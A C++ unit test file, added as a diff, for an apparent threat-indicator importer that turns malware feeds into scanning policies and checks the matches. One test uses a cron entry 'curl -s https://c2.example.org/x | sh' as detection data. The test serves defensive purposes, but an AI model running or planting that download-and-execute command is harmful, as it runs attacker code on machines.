@@ -1,0 +1,179 @@
+// What an import writes: a policy that its author can review, and that the compiler takes.
+
+#include "policies/compiler/import/write.h"
+
+#include "agent/scan/evaluate/matcher.h"
+#include "policies/compiler/import/import.h"
+#include "tests/policies/sample.h"
+
+namespace fleetsweep::indicators {
+namespace {
+
+using compiler::compile_text;
+using compiler::test_now;
+using testing::HasSubstr;
+using testing::IsEmpty;
+using testing::Not;
+
+const std::string kHash = crypto::sha256(as_bytes("harmless one")).hex();
+
+std::vector<Indicator> read(Format format, const std::string& text, const std::string& source) {
+  auto result = import_feed(format, text, {.source = source, .now = to_timestamp(test_now())});
+  FS_ASSERT(result.has_value());
+  return std::move(result->indicators);
+}
+
+std::vector<Indicator> everything() {
+  std::vector<Indicator> all;
+  const auto add = [&](std::vector<Indicator> more) {
+    std::move(more.begin(), more.end(), std::back_inserter(all));
+  };
+  add(read(Format::kLoki, kHash + ";it's # \"ours\"\n" + std::string(32, 'b') + ";Two\n",
+           "hash-iocs.txt"));
+  add(read(Format::kLoki,
+           "# Droppers\n/tmp/\\.[a-z]{3}/dropper$;75;/tmp/\\.bak/\n/opt/it's\\.sh$;75\n",
+           "filename-iocs.txt"));
+  add(read(Format::kClamav,
+           std::string(40, 'c') + ":68:Ours-1\n" + std::string(40, 'd') + ":99:Ours-2\n",
+           "ours.hsb"));
+  add(read(
+      Format::kFeodo,
+      "\"first_seen_utc\",\"dst_ip\",\"dst_port\",\"c2_status\",\"last_online\",\"malware\"\n"
+      "\"2026-11-01 07:44:46\",\"198.51.100.7\",\"443\",\"online\",\"2026-11-20\",\"Example\"\n",
+      "ipblocklist.csv"));
+  add(read(Format::kPlain,
+           "198.51.100.8\n203.0.113.0/24\n2001:db8::7\nc2.example.org\nhttp://c2.example.org/a\n"
+           "/tmp/kdevtmpfsi\n",
+           "list.txt"));
+  add(read(Format::kStix,
+           R"({"type":"bundle","objects":[{"type":"indicator","id":"indicator--7","confidence":83,
+           "valid_from":"2026-01-01T00:00:00Z","pattern_type":"stix",
+           "pattern":"[file:name = 'evil' AND file:size = 5] OR [file:name LIKE '%evil%' AND file:name LIKE '%robot%'] OR [process:command_line = 'evil --now']"}]})",
+           "bundle.json"));
+  return merged(std::move(all));
+}
+
+PolicyHead head() {
+  return {.title = "Family: it's ours",
+          .family = "Ours",
+          .author = "Example CERT",
+          .license = "DRL-1.1",
+          .issuer = "Example Org",
+          .reference = "T-1",
+          .sources = {"hash-iocs.txt", "ours.hsb"},
+          .now = to_timestamp(test_now())};
+}
+
+compiler::Compiled compiled(const std::string& yaml) {
+  const compiler::ReadRule none = [](const std::string&) -> Result<std::string> {
+    return fail(Code::kNotFound, "no rule");
+  };
+  return compile_text(yaml, "imported.yaml", none, test_now());
+}
+
+TEST(ImportedPolicy, TheCompilerHasSomethingToSay) {
+  const auto written = write_policy(everything(), head());
+  EXPECT_THAT(written.not_taken, IsEmpty());
+  EXPECT_THAT(compiler::lines_of(compiled(written.yaml).diagnostics), IsEmpty()) << written.yaml;
+  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kHash)], 4u);
+  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kAddress)], 4u);
+  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kCombination)], 2u);
+  EXPECT_EQ(write_policy(everything(), head()).yaml, written.yaml) << "not the same twice";
+}
+
+TEST(ImportedPolicy, AValueHasLostWhereItCameFrom) {
+  const std::string yaml = write_policy(everything(), head()).yaml;
+  EXPECT_THAT(yaml, HasSubstr("'" + kHash + "'  # hash-iocs.txt:1: it's # \"ours\"\n"));
+  EXPECT_THAT(yaml, HasSubstr("'198.51.100.7'  # ipblocklist.csv:2: Example, online, last online "
+                              "2026-11-20; from 2026-11-01; until 2026-12-20\n"));
+  EXPECT_THAT(yaml, HasSubstr("filename-iocs.txt:2: Droppers; confidence 75"));
+  EXPECT_THAT(yaml, HasSubstr("# bundle.json indicator--7; confidence 83"));
+  EXPECT_THAT(yaml, HasSubstr("# Licence of the feeds: DRL-1.1\n"));
+  EXPECT_THAT(yaml, HasSubstr("expires: 2026-12-20T00:00:00Z\n"));
+}
+
+TEST(ImportedPolicy, AnImportCleansByItself) {
+  const auto policy = compiled(write_policy(everything(), head()).yaml).policy;
+  ASSERT_FALSE(policy.responses.empty());
+  for (const auto& response : policy.responses)
+    for (const auto& action : response.actions) EXPECT_EQ(action.kind, model::ActionKind::kReport);
+}
+
+TEST(ImportedPolicy, NobodyWasAskedOnWhoseAuthority) {
+  PolicyHead unsaid = head();
+  unsaid.issuer = unsaid.reference = "TODO";
+  const auto lines =
+      compiler::lines_of(compiled(write_policy(everything(), unsaid).yaml).diagnostics);
+  ASSERT_EQ(lines.size(), 2u);
+  EXPECT_THAT(lines[0], HasSubstr("error: 'issuer' still says TODO"));
+  EXPECT_THAT(lines[1], HasSubstr("error: 'reference' still says TODO"));
+}
+
+TEST(ImportedPolicy, TheMatcherFindsAnotherThingThanTheFeedNamed) {
+  const auto result = compiled(write_policy(everything(), head()).yaml);
+  ASSERT_TRUE(result.ok());
+  const auto matcher = scan::Matcher::compile(result.policy);
+  ASSERT_TRUE(matcher) << matcher.error().message;
+  // Which detections match, by id.
+  const auto found = [&](const scan::Object& object) {
+    constexpr model::ObjectKind kKinds[] = {model::ObjectKind::kFile, model::ObjectKind::kProcess,
+                                            model::ObjectKind::kPersistence,
+                                            model::ObjectKind::kNetworkTraffic};
+    std::vector<std::string> ids;
+    for (std::uint16_t d = 0; d < result.policy.detections.size(); ++d)
+      if (result.policy.detections[d].object == kKinds[object.index()] &&
+          matcher->match(d, object) == scan::Truth::kYes)
+        ids.push_back(result.policy.detections[d].id);
+    return ids;
+  };
+  const auto file = [](const std::string& path, std::uint64_t size = 1) {
+    scan::FileFacts facts;
+    facts.stage = scan::FileStage::kContent;
+    facts.identity.path = path;
+    facts.identity.size = size;
+    return scan::Object(facts);
+  };
+  using testing::ElementsAre;
+  EXPECT_THAT(found(file("/tmp/.abc/dropper")), ElementsAre("c75_file_2"));
+  EXPECT_THAT(found(file("/tmp/.bak/dropper")), IsEmpty()) << "the false positive of the feed";
+  EXPECT_THAT(found(file("/opt/it's.sh")), ElementsAre("c75_file"));
+  EXPECT_THAT(found(file("/tmp/kdevtmpfsi")), ElementsAre("c50_file"));
+  EXPECT_THAT(found(file("/srv/evil", 5)), ElementsAre("c80_file_name_all_of"));
+  EXPECT_THAT(found(file("/srv/evil", 6)), IsEmpty());
+  EXPECT_THAT(found(file("/srv/my-evil-robot")), ElementsAre("c80_file_name_all_of"));
+  EXPECT_THAT(found(file("/srv/my-evil")), IsEmpty());
+  const auto talks = [](const std::string& address, std::uint16_t port) {
+    scan::ConnectionFacts facts;
+    facts.identity.remote_address = address;
+    facts.identity.remote_port = port;
+    return scan::Object(facts);
+  };
+  EXPECT_THAT(found(talks("198.51.100.7", 443)), ElementsAre("c50_address"));
+  EXPECT_THAT(found(talks("198.51.100.7", 80)), IsEmpty());
+  EXPECT_THAT(found(talks("203.0.113.99", 80)), ElementsAre("c50_address"));
+  EXPECT_THAT(found(talks("198.51.100.9", 80)), IsEmpty());
+  scan::PersistenceFacts cron;
+  cron.identity.kind = model::PersistenceKind::kCron;
+  cron.identity.command = "curl -s https://c2.example.org/x | sh";
+  EXPECT_THAT(found(scan::Object(cron)), ElementsAre("c50_domain_starts"));
+}
+
+TEST(ImportedPolicy, MoreThanAPolicyHoldsIsLostInSilence) {
+  std::vector<Indicator> many;
+  for (int i = 0; i < 300; ++i) {
+    Indicator one = single(Kind::kFilePath, model::Field::kFilePath, model::Match::kRegex,
+                           fmt::format("/opt/evil{}$", i));
+    one.none_of = {
+        {model::Field::kFilePath, model::Match::kRegex, fmt::format("good{}", i), false}};
+    one.origins = {{.source = "filename-iocs.txt", .line = static_cast<std::uint32_t>(i + 1)}};
+    many.push_back(one);
+  }
+  const auto written = write_policy(many, head());
+  EXPECT_EQ(written.taken[static_cast<std::size_t>(Kind::kFilePath)], 256u);
+  ASSERT_EQ(written.not_taken.size(), 44u);
+  EXPECT_THAT(written.not_taken[0].why, HasSubstr("at most 256 detections"));
+  EXPECT_TRUE(compiled(written.yaml).ok());
+}
+
+}  // namespace
+}  // namespace fleetsweep::indicators
